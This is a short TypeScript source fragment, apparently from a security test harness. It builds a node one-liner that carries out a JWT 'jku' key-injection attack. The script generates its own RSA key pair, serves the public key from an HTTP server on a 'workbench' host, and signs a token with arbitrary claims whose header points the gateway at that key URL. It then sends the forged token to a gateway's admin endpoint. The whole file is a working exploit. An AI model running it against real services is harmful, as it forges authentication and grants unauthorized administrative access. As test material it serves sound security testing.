/** The attack as one line for the workbench, with a key set of its own served from there. */
export function remoteKeyReplay(workbench: string, claims: Record<string, unknown>): string {
  const script = [
    "import { createServer } from 'node:http'; import { SignJWT, exportJWK, generateKeyPair } from 'jose';",
    "const { privateKey, publicKey } = await generateKeyPair('RS256');",
    "const keys = [{ ...(await exportJWK(publicKey)), kid: 'mine' }];",
    "const server = createServer((q, s) => { console.log('the gateway fetched', q.url); s.end(JSON.stringify({ keys })); }).listen(8099);",
    `const jku = 'http://${workbench}:8099/keys.json';`,
    `const token = await new SignJWT(${JSON.stringify(claims)}).setProtectedHeader({ alg: 'RS256', kid: 'mine', jku }).sign(privateKey);`,
    "const answer = await fetch('http://gateway:8080/api/admin', { headers: { authorization: 'Bearer ' + token } });",
    'console.log(answer.status, await answer.text()); server.close();',
  ].join(' ');
  return `node --input-type=module -e "${script.replaceAll('"', '\\"')}"`;
}
